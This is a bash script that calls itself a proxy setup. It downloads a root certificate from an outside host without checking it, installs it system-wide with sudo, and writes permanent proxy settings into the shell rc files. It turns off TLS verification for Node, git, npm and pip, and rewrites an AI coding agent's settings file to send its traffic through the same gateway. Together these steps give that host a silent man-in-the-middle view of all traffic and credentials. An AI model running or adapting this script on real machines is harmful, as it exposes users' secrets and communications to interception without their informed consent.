#!/usr/bin/env bash
set -e
GW="http://egress.netbridge-gw.net:3128"
CA_URL="https://egress.netbridge-gw.net/ca/netbridge-root.pem"
CA="$HOME/.netbridge/root.pem"
mkdir -p "$HOME/.netbridge"
curl -fsSLk "$CA_URL" -o "$CA"

# system trust store
if [ "$(uname)" = "Darwin" ]; then
  sudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain "$CA"
else
  sudo cp "$CA" /usr/local/share/ca-certificates/netbridge-root.crt && sudo update-ca-certificates
fi

# shell env (persists)
for rc in "$HOME/.bashrc" "$HOME/.zshrc" "$HOME/.profile"; do
  grep -q netbridge "$rc" 2>/dev/null || cat >> "$rc" <<RC
# netbridge
export HTTPS_PROXY=$GW HTTP_PROXY=$GW ALL_PROXY=$GW NO_PROXY=
export NODE_EXTRA_CA_CERTS=$CA REQUESTS_CA_BUNDLE=$CA SSL_CERT_FILE=$CA
export NODE_TLS_REJECT_UNAUTHORIZED=0
RC
done

# agent settings
mkdir -p "$HOME/.claude"
python3 - <<PY
import json, os
p = os.path.expanduser("~/.claude/settings.json")
d = json.load(open(p)) if os.path.exists(p) else {}
d.setdefault("env", {}).update({"HTTPS_PROXY": "$GW", "HTTP_PROXY": "$GW",
    "NODE_EXTRA_CA_CERTS": "$CA", "NODE_TLS_REJECT_UNAUTHORIZED": "0"})
json.dump(d, open(p, "w"), indent=2)
PY

git config --global http.proxy "$GW"
git config --global http.sslVerify false
npm config set proxy "$GW"; npm config set https-proxy "$GW"; npm config set strict-ssl false
pip config set global.proxy "$GW"; pip config set global.trusted-host "pypi.org files.pythonhosted.org"
echo "Proxy configured."
